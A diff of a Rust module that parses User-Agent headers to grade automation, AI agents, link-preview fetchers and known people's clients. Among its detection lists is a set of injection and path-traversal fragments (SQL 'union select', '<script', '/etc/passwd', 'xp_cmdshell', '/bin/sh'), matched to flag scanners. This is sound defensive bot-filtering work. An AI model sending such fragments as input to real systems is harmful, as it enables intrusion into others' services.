@@ -1,348 +1,829 @@
-//! What a User-Agent header says about the client: automation, and how old its OS and browser are.
+//! What a User-Agent header says about the client, read once per click: its product tokens
+//! (`name/version`) and comments (`( … ; … )`), whether it is automation and how sure that is,
+//! whether it is a known people's client (an in-app browser, a regional browser, a feature phone),
+//! whether it is a link-preview fetcher, and how old its OS and browser are.
 //!
-//! Bots are found with literal patterns (one Aho-Corasick automaton, one pass over the header) and
-//! a few structural signs, never with a regex: compiling a large Unicode regex costs a fresh wasm
-//! isolate more than its whole per-request CPU budget. The patterns are checked against a labelled
-//! corpus of crawler and browser user agents in `tests/bot_corpus.rs`.
+//! Words are found with literal patterns (one Aho-Corasick automaton, one pass over the header)
+//! and kept only where they stand on word boundaries, never with a regex: compiling a large Unicode
+//! regex costs a fresh wasm isolate more than its whole per-request CPU budget. The patterns are
+//! checked against the labelled corpora of `tests/bot_corpus.rs`.
 
+use std::cell::OnceCell;
+use std::ops::{Deref, Range};
 use std::sync::OnceLock;
 
 use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
 
-/// Tokens that only automation puts in a User-Agent. Matched case-insensitively anywhere.
-const BOT_TOKENS: &[&str] = &[
-    // self-declared crawlers
-    "bot",
-    "crawl",
-    "spider",
-    "slurp",
-    "scrap",
-    "archiver",
-    "indexer",
-    "fetcher",
-    "-fetch",
-    "feedparser",
-    "rss",
-    "validator",
-    "preview",
-    "monitor",
-    "checker",
-    "scanner",
-    "search",
-    "analyzer",
-    "proximic",
-    "mediapartners",
-    "google-",
-    "google favicon",
-    "yahoo! ",
-    "yandex",
-    "baidu",
-    "bingpreview",
-    "sogou",
-    "exabot",
-    "ia_archiver",
-    "facebookexternalhit",
-    "ahrefs",
-    "semrush",
-    "mj12",
-    "dataprovider",
-    "lighthouse",
-    "pagespeed",
-    "gtmetrix",
-    "pingdom",
-    "uptime",
-    "statuscake",
-    "site24x7",
-    "newrelic",
-    "datadog",
-    "zgrab",
-    "masscan",
-    "nmap",
-    "nikto",
-    "sqlmap",
-    "nuclei",
-    "cloudflare-",
-    "cf-network-",
-    "amazon-route53",
-    "amazoncloudfront",
-    // headless and automated browsers
-    "headless",
-    "phantomjs",
-    "slimerjs",
-    "selenium",
-    "webdriver",
-    "puppeteer",
-    "playwright",
-    "electron/",
-    "htmlunit",
-    "cypress",
-    // HTTP libraries and command-line clients
-    "curl",
-    "wget",
-    "libwww",
-    "lwp-",
-    "python",
-    "aiohttp",
-    "httpx",
-    "requests/",
-    "urllib",
-    "java/",
-    "jakarta",
-    "apache-httpclient",
-    "go-http-client",
-    "node-fetch",
-    "undici",
-    "axios",
-    "got (",
-    "superagent",
-    "guzzle",
-    "php/",
-    "ruby",
-    "perl",
-    "libcurl",
-    "winhttp",
-    "httpclient",
-    "http_request",
-    "http-client",
-    "httpunit",
-    "restsharp",
-    "postman",
-    "insomnia",
-    "powershell",
-    "dart:io",
-    "reqwest",
-    "hyper/",
-    "rust",
-    "nutch",
-    "heritrix",
-    "httrack",
-    "teleport",
-    "offline explorer",
-    "webcopier",
-    "webzip",
-    "mechanize",
-    "scrapy",
-    "colly",
-    "ning/",
-    "synapse",
-    "indy library",
-    "grequests",
-    "cpp-httplib",
-    "qt/",
-    "wininet",
-    // monitoring, auditing, SEO and feed services that announce themselves by product name
-    "agent",
-    "scan",
-    "audit",
-    "inspector",
-    "optimizer",
-    "resolver",
-    "batch",
-    "verify",
-    "ptst/",
-    "appinsights",
-    "dareboost",
-    "outbrain",
-    "datanyze",
-    "newsai",
-    "attracta",
-    "collapsify",
-    "hardenize",
-    "netcraft",
-    "silktide",
-    "sindup",
-    "turingos",
-    "webcapture",
-    "dlc/",
-    "feeder",
-    "foregenix",
-    "hotjar",
-    "linktiger",
-    "marketgoo",
-    "miniature.io",
-    "newsnow",
-    "openvas",
-    "playstore-google",
-    "readable/",
-    "retroliste",
-    "securityheaders",
-    "splash",
-    "rigor",
-    "testlocally",
-    "abuse.",
-    " ylt ",
-    "upday",
-    "watchtowr",
-    "productfinder",
+/// How sure a sign of automation is. Only `Certain` reaches a `high` probability on its own; the
+/// bot filter's points are scaled by [`Grade::percent`].
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Grade {
+    /// No User-Agent, a program's form with no known device or app, an engine older than its OS.
+    Weak,
+    /// A URL or an e-mail address in the header, `compatible;` without a browser.
+    Likely,
+    /// A self-declared crawler, HTTP library, headless browser, monitor, AI agent or an injection
+    /// payload.
+    Certain,
+}
+
+impl Grade {
+    pub fn name(self) -> &'static str {
+        match self {
+            Grade::Weak => "weak",
+            Grade::Likely => "likely",
+            Grade::Certain => "certain",
+        }
+    }
+
+    /// The share of the bot filter's points a sign of this grade adds: with the default 100
+    /// points, 30 (`low`), 60 (`medium`) and 100 (`high`).
+    pub fn percent(self) -> u32 {
+        match self {
+            Grade::Weak => 30,
+            Grade::Likely => 60,
+            Grade::Certain => 100,
+        }
+    }
+}
+
+/// What kind of automation a sign points to; each is its own reason code.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Kind {
+    Bot,
+    /// A browsing agent acting for a person (ChatGPT-User, Devin, Manus, ...).
+    AiAgent,
+}
+
+impl Kind {
+    pub fn code(self) -> &'static str {
+        match self {
+            Kind::Bot => "bot",
+            Kind::AiAgent => "ai_agent",
+        }
+    }
+}
+
+/// One sign of automation: its grade, its kind and the word of the header that showed it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Signal {
+    pub grade: Grade,
+    pub kind: Kind,
+    pub token: String,
+}
+
+impl Signal {
+    fn new(grade: Grade, kind: Kind, token: impl Into<String>) -> Signal {
+        Signal {
+            grade,
+            kind,
+            token: token.into(),
+        }
+    }
+
+    /// A click that sent no User-Agent at all.
+    pub fn no_user_agent() -> Signal {
+        Signal::new(Grade::Weak, Kind::Bot, "(no user agent)")
+    }
+
+    /// `certain: Googlebot`: what the decision log shows as the reason's `matched`.
+    pub fn describe(&self) -> String {
+        format!("{}: {}", self.grade.name(), self.token)
+    }
+}
+
+/// A part of the header: a product token (`name/version`, or a bare word) or a comment.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Part {
+    /// The name's and the version's byte ranges (the version empty without `/`).
+    Product(u16, u16, u16),
+    /// The bytes between `(` and `)` (or `[` and `]`, as Facebook's in-app browser writes them).
+    Comment(u16, u16),
+}
+
+/// A User-Agent header with what it says, read once when the click arrives and passed to every
+/// filter, the preview check and the counts.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct UserAgent {
+    raw: String,
+    parts: Vec<Part>,
+    reading: Reading,
+    /// Read on first use: only the old-OS/browser filter and a weak sign need it.
+    platform: OnceCell<Platform>,
+}
+
+/// What the header says about the client.
+#[derive(Debug, Clone, PartialEq, Eq, Default)]
+pub struct Reading {
+    /// The strongest sign of automation, if any.
+    pub signal: Option<Signal>,
+    /// A people's client recognised by name (`instagram`, `yandex`, `feature_phone`, ...).
+    pub client: Option<&'static str>,
+    /// A link-preview fetcher unfurling a pasted link: not a person clicking.
+    pub preview: bool,
+}
+
+impl UserAgent {
+    pub fn parse(raw: impl Into<String>) -> UserAgent {
+        let mut raw: String = raw.into();
+        // The ranges are u16; a header that long is cut (the edge refuses larger headers anyway).
+        if raw.len() > usize::from(u16::MAX) {
+            let mut end = usize::from(u16::MAX);
+            while !raw.is_char_boundary(end) {
+                end -= 1;
+            }
+            raw.truncate(end);
+        }
+        let parts = split(&raw);
+        let reading = read(&raw, &parts);
+        UserAgent {
+            raw,
+            parts,
+            reading,
+            platform: OnceCell::new(),
+        }
+    }
+
+    /// The OS and browser with their major versions, as far as the header tells.
+    pub fn platform(&self) -> Platform {
+        *self.platform.get_or_init(|| platform(&self.raw))
+    }
+
+    pub fn as_str(&self) -> &str {
+        &self.raw
+    }
+
+    pub fn reading(&self) -> &Reading {
+        &self.reading
+    }
+
+    /// The product tokens, as `(name, version)`; the version is empty when the token has none.
+    pub fn products(&self) -> impl Iterator<Item = (&str, &str)> {
+        self.parts.iter().filter_map(|p| match *p {
+            Part::Product(start, slash, end) => Some((
+                &self.raw[usize::from(start)..usize::from(slash)],
+                self.raw
+                    .get(usize::from(slash) + 1..usize::from(end))
+                    .unwrap_or(""),
+            )),
+            Part::Comment(..) => None,
+        })
+    }
+
+    /// The comments, each split at `;` into its trimmed items.
+    pub fn comments(&self) -> impl Iterator<Item = Vec<&str>> {
+        self.parts.iter().filter_map(|p| match *p {
+            Part::Comment(start, end) => Some(
+                self.raw[usize::from(start)..usize::from(end)]
+                    .split(';')
+                    .map(str::trim)
+                    .collect(),
+            ),
+            Part::Product(..) => None,
+        })
+    }
+}
+
+impl Deref for UserAgent {
+    type Target = str;
+    fn deref(&self) -> &str {
+        &self.raw
+    }
+}
+
+impl From<&str> for UserAgent {
+    fn from(raw: &str) -> UserAgent {
+        UserAgent::parse(raw)
+    }
+}
+
+impl From<String> for UserAgent {
+    fn from(raw: String) -> UserAgent {
+        UserAgent::parse(raw)
+    }
+}
+
+/// The sign the bot filter judges for a click's User-Agent, whether or not it sent one.
+pub fn signal_of(user_agent: Option<&UserAgent>) -> Option<Signal> {
+    match user_agent {
+        Some(ua) => ua.reading.signal.clone(),
+        None => Some(Signal::no_user_agent()),
+    }
+}
+
+pub fn is_link_preview(user_agent: Option<&UserAgent>) -> bool {
+    user_agent.is_some_and(|ua| ua.reading.preview)
+}
+
+/// Splits a header into product tokens and comments. Never fails: whatever is not a comment is a
+/// run of product tokens separated by whitespace; an unclosed comment runs to the end.
+fn split(ua: &str) -> Vec<Part> {
+    let b = ua.as_bytes();
+    let mut parts = Vec::with_capacity(8);
+    let mut i = 0;
+    while i < b.len() {
+        match b[i] {
+            open @ (b'(' | b'[') => {
+                let close = if open == b'(' { b')' } else { b']' };
+                let mut depth = 1;
+                let mut j = i + 1;
+                while j < b.len() && depth > 0 {
+                    if b[j] == open {
+                        depth += 1;
+                    } else if b[j] == close {
+                        depth -= 1;
+                    }
+                    j += 1;
+                }
+                let end = if depth == 0 { j - 1 } else { j };
+                parts.push(Part::Comment((i + 1) as u16, end as u16));
+                i = j;
+            }
+            c if c.is_ascii_whitespace() || c == b';' || c == b',' => i += 1,
+            _ => {
+                let start = i;
+                while i < b.len()
+                    && !matches!(b[i], b'(' | b'[' | b';' | b',')
+                    && !b[i].is_ascii_whitespace()
+                {
+                    i += 1;
+                }
+                let slash = ua[start..i].find('/').map_or(i, |s| start + s);
+                parts.push(Part::Product(start as u16, slash as u16, i as u16));
+            }
+        }
+    }
+    parts
+}
+
+// ---- the patterns ----
+//
+// Each pattern is matched case-insensitively. Markers around the text say where it must stand:
+// `|` first: a word starts there (the byte before is not a letter or digit); `|` last: a word ends
+// there (the byte after is not a letter or digit, or is a plural `s` that ends the word); `@` first:
+// only inside a product name (before its `/`, or a bare word outside comments), so `Ruby` the phone
+// in a comment is not Ruby the language; `#` last: followed by `/` and a digit (`java/1.8`, not
+// `Java/ASVM`); `^` first: only at the start of the header.
+
+/// Self-declared crawlers, monitors, headless and automated browsers: `Certain`, reason `bot`.
+#[rustfmt::skip]
+const CRAWLERS: &[&str] = &[
+    "bot|", "crawler|", "crawl|", "spider|", "slurp|", "scraper|", "archiver|", "|ia_archiver",
+    "indexer|", "fetcher|", "-fetch|", "feedparser|", "validator|", "checker|", "scanner|",
+    "analyzer|", "monitor|", "monitoring|", "inspector|", "optimizer|", "resolver|", "audit|",
+    "auditor|", "scan|", "scanning|", "scraping|", "|batch|", "verify|", "watcher|", "watchdog|",
+    "checkup|", "httpclient|", "|http_request", "|monitorss", "|page-preview", "|feedburner",
+    "|watchmouse", "|zotero", "|google wireless", "|googleimageproxy", "|proximic|", "-google|",
+    "|google-", "|googleother", "|google favicon", "googleweblight", "|google page speed",
+    "|pagespeed|", "|chrome-lighthouse", "|lighthouse|", "|ahrefs", "|semrush", "|mj12",
+    "|dataprovider", "|gtmetrix", "|pingdom", "uptime|", "|statuscake", "|site24x7", "|newrelic",
+    "|datadog", "|zgrab", "|masscan", "|nmap|", "|nikto", "|sqlmap", "|nuclei|", "|cloudflare",
+    "|cf-network-", "|amazon-route53", "|amazoncloudfront", "|catchpoint", "|dynatrace",
+    "|ruxitsynthetic", "synthetic|", "|splunk", "|rigor|", "|thousandeyes", "|checkly", "|headless",
+    "|phantomjs", "|slimerjs", "|selenium", "|webdriver", "|puppeteer", "|playwright", "|htmlunit",
+    "|cypress/#", "|ptst/#", "|appinsights", "|dareboost", "|outbrain", "|datanyze", "|newsai",
+    "|attracta", "|collapsify", "|hardenize", "|netcraft", "|silktide", "|sindup", "|turingos",
+    "|webcapture", "|dlc/#", "|feeder", "|foregenix", "|hotjar", "|linktiger", "|marketgoo",
+    "|miniature.io", "|newsnow", "|openvas", "|playstore-google", "|readable/#", "|retroliste",
+    "|securityheaders", "|splash|", "|testlocally", "|abuse.", " ylt ", "|upday", "|watchtowr",
+    "productfinder|", "|nutch", "|heritrix", "|httrack", "offline explorer", "|webcopier",
+    "|webzip", "indy library", "|go 1.1 package http", "|got (", "|dart:io", "rss reader",
+    "rssreader", "|feedly", "|inoreader", "|newsblur", "|tiny tiny rss", "|magpierss", "|simplepie",
+    "|rome client", "|universalfeedparser", "|bingpreview", "web preview", "|linkcheck",
+    "link sleuth", "parser|", "|http_get", "|check_http", "-agent|", "|windows-rss-platform",
+    "|applesyndication", "|netnewswire",
 ];
 
-/// Device and app names that contain a bot token but are people's phones and browsers.
-const NOT_BOTS: &[&str] = &["cubot", "robot_ios", "searchcraft", "searchapp"];
-
-/// App network stacks that send tracking clicks for people (server-side clicks from app SDKs).
-const APP_STACKS: &[&str] = &["dalvik/", "cfnetwork/", "darwin/", "okhttp/"];
-
-/// Structural signs looked for in one pass; the order is the order of [`SIGN_*`] below.
-const SIGNS: &[&str] = &[
-    "http://",
-    "https://",
-    "www.",
-    ".com",
-    "compatible;",
-    "msie",
-    "trident/",
+/// HTTP libraries and command-line clients, by product name: `Certain`, reason `bot`.
+#[rustfmt::skip]
+const LIBRARIES: &[&str] = &[
+    "@curl|", "@|wget|", "@|libwww-perl", "@|lwp-", "@|python", "@|aiohttp", "@|httpx",
+    "@requests|", "@|urllib", "|java/#", "@|jakarta", "@|apache-httpclient", "@|go-http-client",
+    "@|node-fetch", "@|node|", "@|undici", "@|axios", "@|superagent", "@|guzzlehttp", "@|php|",
+    "@|ruby|", "@|perl|", "@|winhttp", "@http-client|", "@|httpunit", "@|restsharp",
+    "@|postmanruntime", "@|insomnia", "@powershell|", "@|dart|", "@|reqwest", "@|hyper|", "@|rust",
+    "@|mechanize", "@|colly", "@|ning|", "@|synapse|", "@|grequests", "@|cpp-httplib", "@|wininet",
+    "@|scrapy", "@|httpie", "@|faraday", "@|typhoeus", "@|aws-sdk", "@|boto", "@|ktor", "@|jersey",
+    "@|deno|", "@|lua-resty", "@|zend_http", "@|symfony", "@|wordpress|", "@|okhttp-", "@|libfetch",
+    "@|fasthttp", "@|reactor-netty", "@|vert.x", "@|restclient", "@|httpful", "@|bun|", "@|jetty|",
+    "@|ahc|", "@|newspaper|",
 ];
-const SIGN_URLS: usize = 4;
-const SIGN_COMPATIBLE: usize = 4;
 
-/// Every pattern in one automaton, so a header is scanned once: the bot tokens, then their
-/// exceptions, the structural signs and the link-preview agents, each group a range of pattern ids.
+/// Browsing agents acting for a person: `Certain`, reason `ai_agent`.
+#[rustfmt::skip]
+const AI_AGENTS: &[&str] = &[
+    "|chatgpt-user", "|chatgpt agent", "|perplexity-user", "|claude-user", "|mistralai-user",
+    "|devin|", "|manus|", "|manus-user", "|operator-user", "|gemini-deep-research",
+    "|google-notebooklm", "|meta-externalagent", "|kagi-fetcher", "|duckassist", "|googleagent",
+];
+
+/// Injection and path-traversal payloads scanners put in the header: `Certain`, reason `bot`.
+#[rustfmt::skip]
+const PAYLOADS: &[&str] = &[
+    "${", "<script", "' or ", "\" or ", " or 1=1", "union select", "union all select", "../",
+    "..\\", "/etc/passwd", "<?php", "() {", "javascript:", "onerror=", "onload=", "sleep(",
+    "waitfor delay", "xp_cmdshell", "%00", "<img", "<svg", "alert(", "/bin/sh", "cmd.exe", "eval(",
+];
+
+/// Link-preview fetchers: sent the redirect, marked `"preview": true`, never counted.
+#[rustfmt::skip]
+const PREVIEWS: &[&str] = &[
+    "slackbot", "slack-imgproxy", "facebookexternalhit", "facebookcatalog", "|facebot",
+    "twitterbot", "linkedinbot", "^whatsapp|", "telegrambot", "discordbot", "skypeuripreview",
+    "applebot", "pinterestbot", "|embedly", "redditbot", "|vkshare", "|iframely",
+    "google-pagerenderer", "|mastodon/#", "|viber|", "snap url preview", "microsoftpreview",
+    "|cardyb", "kakaotalk-scrap", "line-poker", "|skype-url-preview", "|tumblr/#", "|bitlybot",
+    "|yahoo link preview", "|googleother-image",
+];
+
+/// People's clients by name: in-app browsers, regional browsers, desktop apps, text browsers and
+/// feature phones. Recognising one outweighs a `Weak` or `Likely` sign, never a `Certain` one.
+#[rustfmt::skip]
+const CLIENTS: &[(&str, &str)] = &[
+    ("fban/", "facebook"), ("fbav/", "facebook"), ("fb_iab", "facebook"), ("|fbios", "facebook"),
+    ("|messenger|", "facebook"), ("|instagram|", "instagram"), ("|snapchat", "snapchat"),
+    ("|musical_ly", "tiktok"), ("|tiktok", "tiktok"), ("bytedancewebview", "tiktok"),
+    ("|bytelocale", "tiktok"), ("|trill_", "tiktok"), ("|line/#", "line"),
+    ("micromessenger", "wechat"), ("|wechat", "wechat"), ("|whatsapp|", "whatsapp"),
+    ("|pinterest|", "pinterest"), ("|twitter for", "x"), ("|twitterandroid", "x"),
+    ("|twitter/#", "x"), ("|naver|", "naver"), ("|naver(", "naver"), ("|whale/#", "naver"),
+    ("|kakaotalk", "kakaotalk"), ("|kakaostory", "kakaotalk"), ("|telegram|", "telegram"),
+    ("|linkedinapp", "linkedin"), ("|gsa/#", "google_app"), ("yabrowser", "yandex"),
+    ("yasearchbrowser", "yandex"), ("|yaapp_", "yandex"), ("|yandexsearch", "yandex"),
+    ("|yandex|", "yandex"), ("ucbrowser", "uc"), ("|ucweb", "uc"), ("|ubrowser/#", "uc"),
+    ("|juc |", "uc"), ("samsungbrowser", "samsung"), ("baiduboxapp", "baidu"),
+    ("baidubrowser", "baidu"), ("|bidubrowser", "baidu"), ("|baiduhd", "baidu"),
+    ("sogoumobilebrowser", "sogou"), ("|sogousearch", "sogou"), ("|metasr|", "sogou"),
+    ("mqqbrowser", "qq"), ("qqbrowser", "qq"), ("|qq/#", "qq"), ("huaweibrowser", "huawei"),
+    ("|petalbrowser", "huawei"), ("|petalsearch", "huawei"), ("opera mini", "opera_mini"),
+    ("|opios/#", "opera_mini"), ("opera mobi", "opera_mini"), ("|silk/#", "silk"),
+    ("|vivaldi/#", "vivaldi"), ("|duckduckgo/#", "duckduckgo"), ("|ddg/#", "duckduckgo"),
+    ("|electron/#", "electron"), ("|lynx/#", "lynx"), ("|links (", "text_browser"),
+    ("|elinks", "text_browser"), ("|w3m/#", "text_browser"), ("profile/midp", "feature_phone"),
+    ("|midp-", "feature_phone"), ("|cldc-", "feature_phone"), ("|j2me", "feature_phone"),
+    ("|kaios", "feature_phone"), ("|series40", "feature_phone"), ("|series60", "feature_phone"),
+    ("|symbianos", "feature_phone"), ("|up.browser", "feature_phone"),
+    ("|netfront", "feature_phone"), ("|obigo", "feature_phone"), ("|docomo/#", "feature_phone"),
+    ("|kddi-", "feature_phone"), ("|softbank/#", "feature_phone"), ("|willcom", "feature_phone"),
+    ("|ddipocket", "feature_phone"), ("|untrusted/#", "feature_phone"), ("|nokia", "feature_phone"),
+    ("qihoobrowser", "360"), ("|qhbrowser", "360"), ("miuibrowser", "miui"),
+    ("vivobrowser", "vivo"), ("heytapbrowser", "heytap"), ("|quark/#", "quark"),
+    ("coc_coc_browser", "coccoc"), ("alipayclient", "alipay"), ("__weibo__", "weibo"),
+    ("|kakaostory", "kakaotalk"), ("|rakuten", "rakuten"), ("|klarna", "klarna"),
+    ("|slack/#", "electron"), ("|discord/#", "electron"),
+];
+
+/// A device's own client without the browser form: an app's network stack, a TV, a console, a
+/// watch. People's clicks (server-side clicks of app SDKs among them), no sign.
+#[rustfmt::skip]
+const DEVICES: &[&str] = &[
+    "|darwin/", "|cfnetwork/", "|dalvik/", "|okhttp/", "|symbian", "|blackberry", "|tizen",
+    "|hbbtv", "|roku", "|smarttv", "|smart-tv", "|playstation", "|nintendo", "|xbox", "|watchos",
+    "|tvos", "|webos", "|itunes", "|server-bag", "|appletv", "|crkey", "|bravia", "|vizio",
+    "|viera", "|watch3|", "|watch4|", "|watch5|", "|watch6|", "|watch7|", "|atc/#",
+];
+
+/// Words that name an OS: a header without the browser form that names one is a program on
+/// that OS, or an app nobody knows: a `Weak` sign, not more.
+#[rustfmt::skip]
+const SYSTEMS: &[&str] = &[
+    "|android", "|iphone", "|ipad", "|ipod", "|ios|", "|windows", "|linux", "|macintosh", "|mac os",
+    "|freebsd", "|netbsd", "|openbsd", "|sunos", "|cros|", "|x11|", "|morphos", "|amigaos",
+    "|risc os",
+];
+
+/// Top-level domains: a domain name in the header (`acme.com`, not `.com.samsung` in a build).
+#[rustfmt::skip]
+const DOMAINS: &[&str] = &[
+    ".com|", ".net|", ".org|", ".io|", ".ai|", ".info|", ".co|", ".app|", ".dev|", ".ru|", ".de|",
+    ".ua|", ".uk|", ".fr|", ".jp|", ".cn|", ".nu|", ".eu|", ".me|",
+];
+
+/// Browsers that write `compatible;` and name themselves in it.
+#[rustfmt::skip]
+const COMPATIBLE_BROWSERS: &[&str] = &[
+    "msie", "trident/", "konqueror", "iemobile",
+];
+
+/// Browser words that make a header the browser form even without `Mozilla/`.
+#[rustfmt::skip]
+const BROWSERS: &[&str] = &[
+    "|opera", "mozilla/", "|gecko/#", "applewebkit/", "|presto/#", "|netsurf", "|dillo/#", "|icab",
+    "|midori", "|xombrero", "|uzbl", "|mosaic", "browser|", "|flock/#", "|sleipnir",
+    "|amigavoyager", "|quicktime", "|contiki", "|aweb|", "|oregano",
+];
+
+/// Words that contain a pattern above but are people's devices: a pattern inside one is ignored.
+#[rustfmt::skip]
+const EXCEPTIONS: &[&str] = &[
+    "|cubot", "|robot_ios", "|user-agent",
+];
+
+/// Structural signs: `Likely` bot.
+#[rustfmt::skip]
+const URLS: &[&str] = &[
+    "|http://", "|https://", "|www.",
+];
+#[rustfmt::skip]
+const COMPATIBLE: &[&str] = &[
+    "compatible;", "(compatible",
+];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Class {
+    Crawler,
+    Library,
+    Ai,
+    Payload,
+    Preview,
+    Client(&'static str),
+    Device,
+    System,
+    Domain,
+    Browser,
+    CompatibleBrowser,
+    Exception,
+    Url,
+    Compatible,
+}
+
+const LEFT: u8 = 1;
+const RIGHT: u8 = 2;
+const PRODUCT: u8 = 4;
+const VERSION: u8 = 8;
+const START: u8 = 16;
+
+#[derive(Debug, Clone, Copy)]
+struct Pattern {
+    class: Class,
+    flags: u8,
+}
+
+/// Every pattern in one automaton, so a header is scanned once.
 struct Matcher {
     all: AhoCorasick,
-    exceptions_from: usize,
-    signs_from: usize,
-    previews_from: usize,
+    patterns: Vec<Pattern>,
+}
+
+/// A marked pattern's text and placement flags.
+fn unmark(marked: &'static str) -> (&'static str, u8) {
+    let mut text = marked;
+    let mut flags = 0;
+    if let Some(t) = text.strip_prefix('^') {
+        flags |= START;
+        text = t;
+    }
+    if let Some(t) = text.strip_prefix('@') {
+        flags |= PRODUCT;
+        text = t;
+    }
+    if let Some(t) = text.strip_prefix('|') {
+        flags |= LEFT;
+        text = t;
+    }
+    if let Some(t) = text.strip_suffix("/#") {
+        flags |= VERSION;
+        text = t;
+    }
+    if let Some(t) = text.strip_suffix('|') {
+        flags |= RIGHT;
+        text = t;
+    }
+    (text, flags)
 }
 
 fn matcher() -> &'static Matcher {
     static M: OnceLock<Matcher> = OnceLock::new();
     M.get_or_init(|| {
-        let patterns: Vec<&str> = BOT_TOKENS
-            .iter()
-            .chain(NOT_BOTS)
-            .chain(SIGNS)
-            .chain(&PREVIEW_AGENTS)
-            .copied()
-            .collect();
+        let groups: [(Class, &[&'static str]); 13] = [
+            (Class::Crawler, CRAWLERS),
+            (Class::Library, LIBRARIES),
+            (Class::Ai, AI_AGENTS),
+            (Class::Payload, PAYLOADS),
+            (Class::Preview, PREVIEWS),
+            (Class::Device, DEVICES),
+            (Class::System, SYSTEMS),
+            (Class::Domain, DOMAINS),
+            (Class::Browser, BROWSERS),
+            (Class::CompatibleBrowser, COMPATIBLE_BROWSERS),
+            (Class::Exception, EXCEPTIONS),
+            (Class::Url, URLS),
+            (Class::Compatible, COMPATIBLE),
+        ];
+        let mut texts = Vec::new();
+        let mut patterns = Vec::new();
+        let mut add = |marked: &'static str, class: Class| {
+            let (text, flags) = unmark(marked);
+            texts.push(text);
+            patterns.push(Pattern { class, flags });
+        };
+        for (class, group) in groups {
+            for marked in group {
+                add(marked, class);
+            }
+        }
+        for (marked, name) in CLIENTS {
+            add(marked, Class::Client(name));
+        }
         Matcher {
-            // A DFA: the fastest search, and small for these few hundred bytes of patterns. Standard
+            // A DFA: the fastest search, and small for these few kilobytes of patterns. Standard
             // semantics, so overlapping search reports every pattern at every place.
             all: AhoCorasick::builder()
                 .ascii_case_insensitive(true)
                 .kind(Some(AhoCorasickKind::DFA))
                 .match_kind(MatchKind::Standard)
-                .build(&patterns)
-                .expect("the bot patterns are valid literals"),
-            exceptions_from: BOT_TOKENS.len(),
-            signs_from: BOT_TOKENS.len() + NOT_BOTS.len(),
-            previews_from: BOT_TOKENS.len() + NOT_BOTS.len() + SIGNS.len(),
+                .build(&texts)
+                .expect("the user-agent patterns are valid literals"),
+            patterns,
         }
     })
 }
 
-/// What one scan of a User-Agent found.
-#[derive(Debug, Default, Clone, Copy)]
-struct Scan {
-    /// The leftmost bot token (the earliest-listed at that place) not inside an exception.
-    token: Option<(usize, usize)>,
-    signs: [bool; 7],
-    preview: bool,
+fn is_word(b: u8) -> bool {
+    b.is_ascii_alphanumeric()
 }
 
-thread_local! {
-    // One click asks about its User-Agent up to three times (preview, counts, bot filter): the
-    // last header scanned and what it held, compared by content.
-    static LAST: std::cell::RefCell<(String, Scan)> = std::cell::RefCell::new((String::new(), Scan::default()));
-}
-
-fn scan(ua: &str) -> Scan {
-    if let Some(found) = LAST.with(|last| {
-        let last = last.borrow();
-        (last.0 == ua).then_some(last.1)
-    }) {
-        return found;
+/// Whether a match at `start..end` stands where its flags say.
+fn placed(ua: &str, parts: &[Part], start: usize, end: usize, flags: u8) -> bool {
+    let b = ua.as_bytes();
+    if flags & START != 0 && start != 0 {
+        return false;
     }
-    let found = scan_uncached(ua);
-    LAST.with(|last| {
-        let mut last = last.borrow_mut();
-        last.0.clear();
-        last.0.push_str(ua);
-        last.1 = found;
-    });
-    found
-}
-
-fn scan_uncached(ua: &str) -> Scan {
-    let m = matcher();
-    let mut found = Scan::default();
-    let mut tokens: Vec<(usize, usize, usize)> = Vec::new();
-    let mut exceptions: Vec<(usize, usize)> = Vec::new();
-    for hit in m.all.find_overlapping_iter(ua) {
-        let id = hit.pattern().as_usize();
-        if id < m.exceptions_from {
-            tokens.push((hit.start(), id, hit.end()));
-        } else if id < m.signs_from {
-            exceptions.push((hit.start(), hit.end()));
-        } else if id < m.previews_from {
-            found.signs[id - m.signs_from] = true;
-        } else {
-            found.preview = true;
+    if flags & LEFT != 0 && start > 0 && is_word(b[start - 1]) && is_word(b[start]) {
+        return false;
+    }
+    if flags & RIGHT != 0 && end < b.len() && is_word(b[end]) && is_word(b[end - 1]) {
+        // A plural `s` that ends the word still ends it (`spiders`, `monitors`).
+        let plural =
+            b[end].eq_ignore_ascii_case(&b's') && b.get(end + 1).is_none_or(|&c| !is_word(c));
+        if !plural {
+            return false;
         }
     }
-    // A token inside an exception ("CUBOT" phones) does not count; another token still may.
-    found.token = tokens
-        .iter()
-        .filter(|(start, _, end)| !exceptions.iter().any(|(s, e)| s <= start && end <= e))
-        .min()
-        .map(|&(start, id, _)| (start, id));
-    found
-}
-
-/// Link-preview fetchers (chat apps and social sites unfurling a pasted link). They are sent the
-/// redirect like anyone, but are not people clicking, so the decision log marks them.
-const PREVIEW_AGENTS: [&str; 12] = [
-    "slackbot-linkexpanding",
-    "slack-imgproxy",
-    "facebookexternalhit",
-    "facebookcatalog",
-    "twitterbot",
-    "linkedinbot",
-    "whatsapp/",
-    "telegrambot",
-    "discordbot",
-    "skypeuripreview",
-    "applebot",
-    "pinterestbot",
-];
-
-pub fn is_link_preview(user_agent: Option<&str>) -> bool {
-    user_agent.is_some_and(|ua| scan(ua).preview)
-}
-
-/// Why a User-Agent looks automated: the pattern or sign that matched, for the decision log.
-pub fn bot_signature(user_agent: Option<&str>) -> Option<String> {
-    let ua = user_agent.map(str::trim).unwrap_or("");
-    if ua.is_empty() {
-        return Some("(empty user agent)".into());
-    }
-    let found = scan(ua);
-    if let Some((_, id)) = found.token {
-        return Some(BOT_TOKENS[id].to_owned());
-    }
-    let seen = found.signs;
-    // Browsers never put a URL or an e-mail address in their User-Agent; crawlers sign with one.
-    if let Some(i) = (0..SIGN_URLS).find(|&i| seen[i]) {
-        return Some(format!("contains {:?}", SIGNS[i]));
-    }
-    // An e-mail address; `@` before a digit is a version (`android@150.0`), not an address.
-    if ua
-        .as_bytes()
-        .windows(2)
-        .any(|w| w[0] == b'@' && w[1].is_ascii_alphabetic())
+    if flags & VERSION != 0
+        && !(b.get(end) == Some(&b'/') && b.get(end + 1).is_some_and(u8::is_ascii_digit))
     {
-        return Some("contains an e-mail address".into());
+        return false;
     }
